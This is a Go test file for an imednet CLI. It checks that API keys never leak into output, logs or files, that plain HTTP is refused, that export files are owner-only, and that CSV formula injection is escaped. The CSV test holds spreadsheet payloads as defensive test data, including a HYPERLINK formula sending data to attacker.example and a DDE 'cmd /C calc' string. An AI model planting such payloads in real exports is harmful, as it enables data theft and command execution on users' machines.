package cli

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"io/fs"
	"log/slog"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/spf13/cobra"

	imednet "github.com/imednet/imednet-go"
	"github.com/imednet/imednet-go/imednettest"
	"github.com/imednet/imednet-go/internal/cli/cmdutil"
	"github.com/imednet/imednet-go/internal/cli/config"
	"github.com/imednet/imednet-go/internal/cli/output"
)

// The keys of the secrets test: distinctive, so that any 8 characters of them found in the
// output can only come from them.
const (
	secretAPIKey = "Zq8XvT2mLp5RwN7cKd3F-api"
	secretSecKey = "Hy6BnJ9sWe4QaU1gMt0V-sec"
)

// leaks returns the pieces of 8 characters or more of the keys found in text.
func leaks(text string) []string {
	var found []string
	for _, key := range []string{secretAPIKey, secretSecKey} {
		for i := 0; i+8 <= len(key); i++ {
			if piece := key[i : i+8]; strings.Contains(text, piece) {
				found = append(found, piece)
			}
		}
	}
	return found
}

// commandPaths enumerates every runnable command of the tree, cobra's help and completion
// commands included, as the words that name it (nil for the root).
func commandPaths(t *testing.T) [][]string {
	t.Helper()
	io, _, _, _ := cmdutil.TestStreams()
	root := NewRootCmd(&cmdutil.Factory{IO: io, Getenv: func(string) string { return "" }})
	root.InitDefaultHelpCmd()
	root.InitDefaultCompletionCmd()
	var paths [][]string
	var walk func(c *cobra.Command)
	walk = func(c *cobra.Command) {
		if c.Runnable() && !c.Hidden {
			paths = append(paths, strings.Fields(c.CommandPath())[1:])
		}
		for _, sub := range c.Commands() {
			walk(sub)
		}
	}
	walk(root)
	return paths
}

// hasFlag reports whether the command named by path takes the flag.
func hasFlag(path []string, flag string) bool {
	io, _, _, _ := cmdutil.TestStreams()
	root := NewRootCmd(&cmdutil.Factory{IO: io, Getenv: func(string) string { return "" }})
	c, _, err := root.Find(path)
	return err == nil && c.Flags().Lookup(flag) != nil
}

// secretsSetting is one server and way of giving the keys.
type secretsSetting struct {
	name    string
	baseURL string
	study   string        // the --study given to commands that take one
	flags   bool          // the keys as --api-key and --security-key instead of the environment
	timeout time.Duration // when set, each command is cancelled after it
}

// retryNow answers every 429 and 5xx with Retry-After: 0, so that the client's retries of a
// failing server take no time; it lets resets (hijacking) through.
type retryNow struct{ http.ResponseWriter }

func (w retryNow) WriteHeader(code int) {
	if code >= 429 {
		w.Header().Set("Retry-After", "0")
	}
	w.ResponseWriter.WriteHeader(code)
}

func (w retryNow) Unwrap() http.ResponseWriter { return w.ResponseWriter }

func (w retryNow) Hijack() (net.Conn, *bufio.ReadWriter, error) {
	return http.NewResponseController(w.ResponseWriter).Hijack()
}

func (w retryNow) Flush() { http.NewResponseController(w.ResponseWriter).Flush() }

// faultyServer serves srv's handler on loopback through retryNow.
func faultyServer(t *testing.T, faults imednettest.Faults, opts ...imednettest.Option) string {
	t.Helper()
	srv, err := imednettest.New(append(opts, imednettest.WithKeys(secretAPIKey, secretSecKey), imednettest.WithFaults(faults))...)
	if err != nil {
		t.Fatal(err)
	}
	ts := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		srv.ServeHTTP(retryNow{w}, r)
	}))
	t.Cleanup(ts.Close)
	return ts.URL
}

// TestSecretsNeverPrinted runs every command of the CLI with --debug, against servers that
// refuse the keys (401) or the study (403), fail (5xx, 429, connection resets) or work, with
// the keys in the environment or in flags, and finds no piece of either key in stdout, stderr,
// the log records, or the files the commands wrote.
func TestSecretsNeverPrinted(t *testing.T) {
	var logs bytes.Buffer
	var logMu sync.Mutex
	prev := slog.Default()
	slog.SetDefault(slog.New(slog.NewTextHandler(lockedWriter{&logs, &logMu}, &slog.HandlerOptions{Level: slog.LevelDebug})))
	t.Cleanup(func() { slog.SetDefault(prev) })

	working, err := imednettest.NewServer(imednettest.WithKeys(secretAPIKey, secretSecKey), imednettest.WithJobDelay(5*time.Millisecond),
		imednettest.WithStudy(imednettest.StudyConfig{Key: "DEMO", Sites: 2, Subjects: 4, RecordsPerSubject: 12, QueryFraction: 0.3}))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(working.Close)
	refusing, err := imednettest.NewServer(imednettest.WithKeys("other-api-key", "other-security-key"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(refusing.Close)

	// What commands need: a record request file, a job's batch id, an id of each resource, a
	// configuration directory.
	dir := t.TempDir()
	configHome := filepath.Join(dir, "config")
	dictDir := filepath.Join(dir, "dictionary")
	if err := os.Mkdir(dictDir, 0o700); err != nil {
		t.Fatal(err)
	}
	for name, data := range working.Study("DEMO").DictionaryFiles() {
		if err := os.WriteFile(filepath.Join(dictDir, name), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	file := filepath.Join(dir, "new.json")
	if err := os.WriteFile(file, []byte(`[{"formKey":"AE","subjectKey":"01-001","data":{"AETERM":"Cough"}}]`), 0o600); err != nil {
		t.Fatal(err)
	}
	sdk, err := working.Client()
	if err != nil {
		t.Fatal(err)
	}
	jobs, err := sdk.Records.Create(t.Context(), "DEMO", []imednet.RecordRequest{
		imednet.NewRecord("AE", "01-002", map[string]any{"AETERM": "Rash"})}, nil)
	if err != nil {
		t.Fatal(err)
	}
	batch := jobs[0].BatchID
	ids := map[string]string{}
	for noun, field := range idField {
		r := run(t, env{vars: map[string]string{imednet.EnvBaseURL: working.URL(), imednet.EnvAPIKey: secretAPIKey,
			imednet.EnvSecurityKey: secretSecKey, cmdutil.EnvStudy: "DEMO"}}, noun, "list", "--limit", "1", "-o", "jsonl")
		items := decodeLines[map[string]any](t, r.out)
		if r.code != 0 || len(items) != 1 {
			t.Fatalf("%s list: exit %d, %q", noun, r.code, r.errOut)
		}
		ids[noun] = jsonText(items[0][field])
	}

	var n atomic.Int64
	argsFor := func(path []string, s secretsSetting) []string {
		seq := n.Add(1)
		args := []string{"--debug"}
		if s.flags {
			args = append(args, "--base-url", s.baseURL, "--api-key", secretAPIKey, "--security-key", secretSecKey)
		}
		args = append(args, path...)
		if hasFlag(path, "study") {
			args = append(args, "--study", s.study)
		}
		name := strings.Join(path, " ")
		switch {
		case name == "config get":
			args = append(args, "profile")
		case len(path) == 2 && path[1] == "get":
			id, ok := ids[path[0]]
			if !ok {
				id = "1"
			}
			args = append(args, id)
		case name == "records create":
			args = append(args, "--file", file, "--poll-interval", "5ms")
		case name == "jobs status":
			args = append(args, batch)
		case name == "subjects show":
			args = append(args, ids["subjects"])
		case name == "config set":
			args = append(args, "--profile", "test", "study", "DEMO")
		case name == "jobs wait":
			args = append(args, batch, "--poll-interval", "5ms")
		case name == "export" || name == "sync":
			args = append(args, "--to", "sqlite:"+filepath.Join(dir, "out-"+strconv.FormatInt(seq, 10)+".db"))
		case name == "report": // reads an export target, not the API: a fresh export of the sandbox
			args = append(args, "--sandbox")
		case name == "dictionary check":
			args = append(args, "--dictionary", dictDir)
		case name == "dictionary diff":
			args = append(args, "api:DEMO", dictDir)
		case name == "sandbox dictionary":
			args = append(args, "--out", filepath.Join(dir, "dict-"+strconv.FormatInt(seq, 10)))
		case name == "sandbox serve":
			args = append(args, "--addr", "127.0.0.1:0", "--subjects", "2", "--records", "2")
		}
		return args
	}
	paths := commandPaths(t)
	for _, want := range []string{"records create", "jobs wait", "export", "sync", "sandbox serve", "auth check", "completion bash", "help", "version"} {
		if !slices.ContainsFunc(paths, func(p []string) bool { return strings.Join(p, " ") == want }) {
			t.Fatalf("the command tree lacks %q: %v", want, paths)
		}
	}

	// runOne runs one command and checks everything it printed and logged.
	runOne := func(t *testing.T, path []string, s secretsSetting) result {
		args := argsFor(path, s)
		vars := map[string]string{config.EnvConfigHome: configHome}
		if !s.flags {
			vars = map[string]string{imednet.EnvBaseURL: s.baseURL, imednet.EnvAPIKey: secretAPIKey, imednet.EnvSecurityKey: secretSecKey,
				config.EnvConfigHome: configHome}
		}
		ctx := context.Background()
		if s.timeout > 0 {
			var cancel context.CancelFunc
			ctx, cancel = context.WithTimeout(ctx, s.timeout)
			defer cancel()
		}
		if strings.Join(path, " ") == "sandbox serve" {
			var cancel context.CancelFunc
			ctx, cancel = context.WithTimeout(ctx, 150*time.Millisecond) // serve runs until interrupted
			defer cancel()
		}
		io, _, out, errOut := cmdutil.TestStreams()
		f := &cmdutil.Factory{IO: io, Version: "test", Getenv: func(k string) string { return vars[k] }}
		logMu.Lock()
		from := logs.Len()
		logMu.Unlock()
		code := Run(ctx, f, args)
		r := result{code: code, out: out.String(), errOut: errOut.String()}
		logMu.Lock()
		logged := logs.String()[from:] // what was logged meanwhile (by other commands too, when concurrent)
		logMu.Unlock()
		if l := leaks(r.out + "\n" + r.errOut + "\n" + logged); len(l) > 0 {
			t.Errorf("%s: %v: pieces of a key in the output %q:\nstdout:\n%s\nstderr:\n%s\nlog:\n%s", s.name, args, l, r.out, r.errOut, logged)
		}
		return r
	}

	// The working server first: every command succeeds, and those that call the API log
	// their requests.
	calls := map[string]bool{} // the commands that call the API
	for _, mode := range []bool{false, true} {
		s := secretsSetting{name: "working", baseURL: working.URL(), study: "DEMO", flags: mode}
		for _, path := range paths {
			before := totalRequests(working)
			r := runOne(t, path, s)
			name := strings.Join(path, " ")
			if r.code != 0 {
				t.Errorf("%s: %q: exit %d:\n%s", s.name, name, r.code, r.errOut)
			}
			if totalRequests(working) > before {
				calls[name] = true
				if !strings.Contains(r.errOut, "imednet: request") {
					t.Errorf("%s: %q called the API without a debug log: %q", s.name, name, r.errOut)
				}
			}
		}
	}
	if len(calls) < 25 {
		t.Fatalf("only %d commands called the API: %v", len(calls), calls)
	}
	t.Logf("%d commands, %d of them call the API", len(paths), len(calls))

	// Then the failing servers: every command that calls the API fails, as it should, and
	// says nothing of the keys.
	failing := []struct {
		s    secretsSetting
		code int // the exit code of a command that calls the API; 0: any failure
	}{
		{secretsSetting{name: "401", baseURL: refusing.URL(), study: "DEMO"}, cmdutil.ExitAuth},
		{secretsSetting{name: "401 flags", baseURL: refusing.URL(), study: "DEMO", flags: true}, cmdutil.ExitAuth},
		{secretsSetting{name: "403", baseURL: working.URL(), study: "NOPE"}, cmdutil.ExitAuth},
		{secretsSetting{name: "5xx and 429", baseURL: faultyServer(t, imednettest.Faults{ServerErrorRate: 0.7, TooManyRequestsRate: 0.3}), study: "DEMO"}, cmdutil.ExitFailure},
		{secretsSetting{name: "5xx flags", baseURL: faultyServer(t, imednettest.Faults{ServerErrorRate: 1}), study: "DEMO", flags: true}, cmdutil.ExitFailure},
	}
	for _, fc := range failing {
		for _, path := range paths {
			name := strings.Join(path, " ")
			r := runOne(t, path, fc.s)
			if !calls[name] || fc.s.name == "403" && !hasFlag(path, "study") {
				continue
			}
			if r.code != fc.code {
				t.Errorf("%s: %q: exit %d, want %d:\n%s", fc.s.name, name, r.code, fc.code, r.errOut)
			}
		}
	}
	// Connection resets: a reset carries no Retry-After, so the client backs off between
	// attempts (up to seconds); the commands run at once, and each gets 2 seconds to fail.
	resets := secretsSetting{name: "resets", baseURL: faultyServer(t, imednettest.Faults{ResetRate: 1}), study: "DEMO", timeout: 2 * time.Second}
	var wg sync.WaitGroup
	for _, path := range paths {
		name := strings.Join(path, " ")
		if !calls[name] {
			continue
		}
		wg.Go(func() {
			if r := runOne(t, path, resets); r.code != cmdutil.ExitFailure {
				t.Errorf("resets: %q: exit %d, want 1:\n%s", name, r.code, r.errOut)
			}
		})
	}
	wg.Wait()

	// The files the commands wrote (exports, their ledgers) hold no key either.
	filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		if l := leaks(string(b)); len(l) > 0 {
			t.Errorf("%s holds pieces of a key: %q", p, l)
		}
		return nil
	})
}

type lockedWriter struct {
	b  *bytes.Buffer
	mu *sync.Mutex
}

func (w lockedWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	defer w.mu.Unlock()
	return w.b.Write(p)
}

// totalRequests counts the requests a server has seen, those it refused or faulted included.
func totalRequests(srv *imednettest.Server) int {
	st := srv.Stats()
	n := 0
	for _, k := range st.Requests {
		n += k
	}
	for kind, k := range st.Faults {
		if kind != imednettest.FaultLatency {
			n += k
		}
	}
	return n
}

// TestPlainHTTPRefused: the CLI refuses to send the keys over plain http to a host that is
// not a loopback address, whether the URL comes from --base-url or the environment, before
// sending anything.
func TestPlainHTTPRefused(t *testing.T) {
	for _, base := range []string{"http://example.com", "http://10.1.2.3:8080", "http://127.0.0.1.example.com",
		"http://localhost.example.com/api/v1/edc", "HTTP://example.com"} {
		for _, viaFlag := range []bool{false, true} {
			vars := map[string]string{imednet.EnvAPIKey: secretAPIKey, imednet.EnvSecurityKey: secretSecKey}
			args := []string{"studies", "list"}
			if viaFlag {
				args = append([]string{"--base-url", base}, args...)
			} else {
				vars[imednet.EnvBaseURL] = base
			}
			r := run(t, env{vars: vars}, append([]string{"--debug"}, args...)...)
			msg := strings.TrimSpace(r.errOut)
			if r.code != cmdutil.ExitUsage || !strings.Contains(msg, "refusing plain http") || !strings.Contains(msg, "https") ||
				!strings.Contains(msg, hostOf(t, base)) || strings.Count(msg, "\n") > 0 ||
				strings.Contains(msg, "WithInsecureHTTP") { // an SDK option, which a CLI user cannot give
				t.Errorf("%s (flag %v): exit %d, %q; want exit 2 and one line refusing plain http for that URL", base, viaFlag, r.code, msg)
			}
			if strings.Contains(msg, "imednet: request") {
				t.Errorf("%s: a request was attempted: %q", base, msg)
			}
			if l := leaks(r.out + r.errOut); len(l) > 0 {
				t.Errorf("%s: pieces of a key in %q", base, r.errOut)
			}
		}
	}
	// A loopback address is allowed: a local test server.
	_, vars := remote(t, secretAPIKey, secretSecKey)
	for _, host := range []string{"127.0.0.1", "localhost"} {
		u := strings.Replace(vars[imednet.EnvBaseURL], "127.0.0.1", host, 1)
		r := run(t, env{vars: map[string]string{imednet.EnvAPIKey: secretAPIKey, imednet.EnvSecurityKey: secretSecKey}}, "--base-url", u, "studies", "list")
		if r.code != 0 {
			t.Errorf("%s: exit %d, %q", u, r.code, r.errOut)
		}
	}
}

// hostOf returns the host (and port) of a URL.
func hostOf(t *testing.T, raw string) string {
	t.Helper()
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	return u.Host
}

// TestExportFilesOwnerOnly: every file an export creates through the CLI, in every file
// target, is readable by its owner only, and every directory it creates is the owner's alone.
func TestExportFilesOwnerOnly(t *testing.T) {
	srv := newSandbox(t, imednettest.WithStudy(imednettest.StudyConfig{Key: "DEMO", Sites: 2, Subjects: 3, RecordsPerSubject: 5}))
	base := t.TempDir()
	for _, tc := range []struct {
		target string
		root   string // what the export created
	}{
		{"sqlite:" + filepath.Join(base, "s.db"), ""},
		{"csv:" + filepath.Join(base, "csv", "nested"), filepath.Join(base, "csv")},
		{"jsonl:" + filepath.Join(base, "jsonl"), filepath.Join(base, "jsonl")},
		{"parquet:" + filepath.Join(base, "parquet", "lake"), filepath.Join(base, "parquet")},
	} {
		for _, cmd := range []string{"export", "sync"} {
			mustOK(t, sbx(t, srv, cmd, "--to", tc.target, "--layout", "both"))
		}
		root := tc.root
		var files int
		check := func(p string, info fs.FileInfo) {
			want := fs.FileMode(0o600)
			if info.IsDir() {
				want = 0o700 | fs.ModeDir
			} else {
				files++
			}
			if info.Mode() != want {
				t.Errorf("%s: %s is %v, want %v", tc.target, p, info.Mode(), want)
			}
		}
		if root == "" { // sqlite: the database and its -wal and -shm files
			matches, _ := filepath.Glob(filepath.Join(base, "s.db*"))
			for _, p := range matches {
				info, err := os.Lstat(p)
				if err != nil {
					t.Fatal(err)
				}
				check(p, info)
			}
		} else {
			filepath.Walk(root, func(p string, info fs.FileInfo, err error) error {
				if err != nil {
					t.Fatal(err)
				}
				check(p, info)
				return nil
			})
		}
		if files < 1 || root != "" && files < 10 {
			t.Errorf("%s: only %d files to check", tc.target, files)
		}
	}
}

// TestCSVFormulaInjection: a value that a spreadsheet would run as a formula comes out of
// every CSV writer of the CLI (-o csv of lists, single items and the study structure, and the
// csv: export target) with a single quote before it, and no other cell starts a formula.
func TestCSVFormulaInjection(t *testing.T) {
	const evil = `=HYPERLINK("http://attacker.example/?"&A1,"Click")`
	srv := newSandbox(t, imednettest.WithStudy(imednettest.StudyConfig{Key: "DEMO", Name: "+cmd|' /C calc'!A0",
		Description: "@SUM(1+1)", Sites: 2, Subjects: 3, RecordsPerSubject: 12}))
	st := srv.Study("DEMO")
	ae := st.RecordIDs("AE")
	if len(ae) == 0 {
		t.Fatal("no AE record")
	}
	if err := st.UpdateRecord(ae[0], map[string]string{"AETERM": evil}); err != nil {
		t.Fatal(err)
	}
	id := strconv.Itoa(ae[0])

	// checkCells parses CSV text and reports every cell that starts a formula; it returns
	// how many cells hold the escaped evil value.
	checkCells := func(where, text string) int {
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", where, err)
		}
		escaped := 0
		for i, row := range rows {
			for j, cell := range row {
				if output.EscapeCSV(cell) != cell {
					t.Errorf("%s: row %d, column %d starts a formula: %q", where, i+1, j+1, cell)
				}
				if strings.HasPrefix(cell, "'"+evil) || strings.Contains(cell, `"AETERM":"=HYPERLINK`) {
					escaped++
				}
			}
		}
		return escaped
	}
	for _, args := range [][]string{
		{"records", "list", "--filter", "formKey==AE"},
		{"records", "get", id},
		{"studies", "list"},
		{"study", "structure"},
		{"revisions", "list", "--filter", "recordId==" + id},
	} {
		r := sbx(t, srv, append(args, "-o", "csv")...)
		mustOK(t, r, args...)
		n := checkCells(strings.Join(args, " "), r.out)
		if args[0] == "records" && n == 0 {
			t.Errorf("%v: the record's value is not in the output:\n%s", args, r.out)
		}
	}

	dir := filepath.Join(t.TempDir(), "csv")
	mustOK(t, sbx(t, srv, "export", "--to", "csv:"+dir, "--layout", "both", "--forms", "AE"))
	files, err := filepath.Glob(filepath.Join(dir, "*.csv"))
	if err != nil || len(files) < 5 {
		t.Fatalf("csv export: %v, files %v", err, files)
	}
	escaped := 0
	for _, p := range files {
		b, err := os.ReadFile(p)
		if err != nil {
			t.Fatal(err)
		}
		escaped += checkCells(p, string(b))
		if filepath.Base(p) == "studies.csv" && !strings.Contains(string(b), "'+cmd|") {
			t.Errorf("studies.csv lacks the escaped study name:\n%s", b)
		}
	}
	// The wide table and the long table each hold the value once, escaped.
	if escaped < 2 {
		t.Errorf("the escaped value is in %d cells of the export, want at least 2 (form_AE and record_values)", escaped)
	}
}
